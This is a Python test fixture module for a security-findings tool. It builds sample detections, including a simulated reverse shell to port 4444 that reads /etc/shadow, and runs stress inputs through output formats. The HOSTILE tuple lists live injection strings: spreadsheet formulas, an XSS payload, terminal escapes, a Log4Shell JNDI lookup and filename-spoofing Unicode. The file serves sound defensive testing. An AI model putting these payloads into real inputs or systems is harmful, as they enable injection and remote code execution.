"""Findings of every shape that formats must stand: hostile, empty, extreme; and usual ones."""

from __future__ import annotations

import datetime as dt

import polars as pl

from rtml.schema import FINDINGS, conform

AT = dt.datetime(2026, 11, 24, 3, 14, 1, 234567, tzinfo=dt.UTC)
HOSTILE = (
    '=HYPERLINK("http://x","y")',
    "\x1b[2J\r\nCEF:0|a|b|c=d\\",
    "</script><img src=x onerror=alert(1)>",
    "\u202etxt.exe\u200b\ufeff",
    "a,b;\"c\"\t'd'",
    "é" * 3000,
    "-1+1",
    "@SUM(A1)",
    "{{7*7}} ${jndi:ldap://x}",
)
SECRETS = ("hunter2secret", "ghp_0123456789abcdefABCDEF0123", "s3cr3t-bearer-value")
COMMAND = f"deploy --password {SECRETS[0]} --header 'Authorization: Bearer {SECRETS[2]}' {SECRETS[1]}"
REASON = {
    "feature": "files.read: read /etc/shadow given web: cat",
    "value": 9.5,
    "usual": 1.25,
    "share": 0.1 + 0.2,
}


def event(**facts: object) -> dict[str, object]:
    return {"time": AT, "host": "n1", "seq": 7, "kind": "connect", "result": 0, "pid": 42, **facts}


RULE = {
    "finding_id": "f-rule",
    "source": "rule",
    "detector": "rules",
    "type": "Execution:Runtime/ReverseShell",
    "severity": 8.0,
    "score": 0.1 + 0.2,
    "first_seen": AT,
    "last_seen": AT + dt.timedelta(minutes=4),
    "count": 3,
    "account": "123456789012",
    "cluster": "prod",
    "host": "n1",
    "container_id": "c" * 64,
    "container_name": "web",
    "image": "registry.example:5000/shop/web:1.2",
    "image_digest": "sha256:" + "ab" * 32,
    "namespace": "shop",
    "pod": "web-1",
    "workload": "web",
    "service_account": "default",
    "process_id": 77,
    "title": "Shell on a socket",
    "techniques": ["T1059.004", "T1611"],
    "contributions": [{**REASON, "usual": None}],
    "evidence": [{"host": "n1", "seq": 7}],
    "pid": 42,
    "user": "0",
    "exe": "/bin/sh",
    "exe_sha256": "cd" * 32,
    "cmdline": COMMAND,
    "parents": [
        {"pid": 41, "exe": "/usr/bin/php", "cmdline": f"php --token {SECRETS[1]}"},
        {"pid": 1, "exe": "/usr/sbin/nginx", "cmdline": "nginx"},
    ],
    "destinations": ["203.0.113.9:4444"],
    "files": ["/etc/shadow", "/tmp/.x"],
    "events": [
        event(
            exe="/bin/sh",
            cmdline=COMMAND,
            user="0",
            dst_ip="203.0.113.9",
            dst_port=4444,
            protocol="tcp",
            cwd="/tmp",
        ),
        event(kind="open", path="/etc/shadow", pid=None),
        event(kind="dns", domain="c2.example.org"),
        event(dst_ip="2001:db8::1", dst_port=99),
    ],
}
MODEL = {
    **RULE,
    "finding_id": "f-model",
    "source": "model",
    "detector": "surprise",
    "type": "Behavior:Runtime/AnomalousBehavior.Files",
    "p_value": 1e-5 / 3,
    "budget": 3.0,
    "techniques": None,
    "contributions": [REASON],
    "compared": "usually 3 files, now 57",
    "counterfactual": "usual if it had not read /etc/shadow",
    "maturity": "this group was seen for 12 container-minutes",
}
POSING = {**MODEL, "finding_id": "f-posing", "type": "Execution:Runtime/ReverseShell"}
AUDIT = {
    "finding_id": "f-audit",
    "source": "rule",
    "detector": "rules",
    "type": "Execution:Kubernetes/ExecInPod",
    "severity": 5.0,
    "first_seen": AT,
    "last_seen": AT,
    "count": 1,
    "actor": "alice@example.org",
    "title": "alice: exec (pods/exec web-1)",
    "events": [event(kind="audit", pid=None)],
}
INSTANCE = {
    "finding_id": "f-host",
    "source": "rule",
    "detector": "rules",
    "host": "n1",
    "first_seen": AT,
    "last_seen": AT,
}
CONTAINER = {
    **INSTANCE,
    "finding_id": "f-container",
    "container_id": "c1",
    "image": "web",
    "exe": "/bin/id",
    "pid": 3,
}
NOTHING: dict[str, object] = {}
EXTREME = {
    "finding_id": "f-extreme",
    "source": "model",
    "severity": float("nan"),
    "score": float("inf"),
    "p_value": 0.0,
    "count": 2**62,
    "first_seen": dt.datetime(1970, 1, 1, tzinfo=dt.UTC),
    "last_seen": dt.datetime(2199, 12, 31, tzinfo=dt.UTC),
    "pid": 2**40,
    "user": "9" * 25,
    "exe": "/",
    "exe_sha256": "not a digest",
    "image_digest": "?",
    "contributions": [{"feature": "a.b", "value": float("-inf"), "usual": float("nan"), "share": None}],
    "events": [event(dst_ip="999.1.1.1", dst_port=70000, domain="a b", pid=-1, kind=None)],
}


def hostile(text: str) -> dict[str, object]:
    """Return a finding whose every text is ``text``."""
    facts: dict[str, object] = {name: text for name, kind in FINDINGS.items() if kind == pl.String}
    lists = {name: [text] for name, kind in FINDINGS.items() if kind == pl.List(pl.String)}
    inner = dict.fromkeys(
        ("kind", "exe", "cmdline", "path", "domain", "user", "output", "protocol", "dst_ip"), text
    )
    return {
        **facts,
        **lists,
        "first_seen": AT,
        "last_seen": AT,
        "pid": 1,
        "parents": [{"pid": 1, "exe": text, "cmdline": text}],
        "events": [{"time": AT, "pid": 1, **inner}],
        "contributions": [{"feature": text, "value": 1.0, "usual": 2.0, "share": 0.5}],
    }


def table(*rows: dict[str, object]) -> pl.DataFrame:
    """Return rows as findings."""
    return conform(pl.DataFrame(list(rows), schema=dict(FINDINGS), orient="row", strict=False), FINDINGS)


def many(number: int) -> pl.DataFrame:
    """Return so many usual findings."""
    return table(*({**RULE, "finding_id": f"f{i}"} for i in range(number)))


USUAL = (RULE, MODEL, AUDIT, INSTANCE, CONTAINER)
ODD = (NOTHING, EXTREME, POSING, *(hostile(text) for text in HOSTILE))
EVERYTHING = table(*USUAL, *ODD)
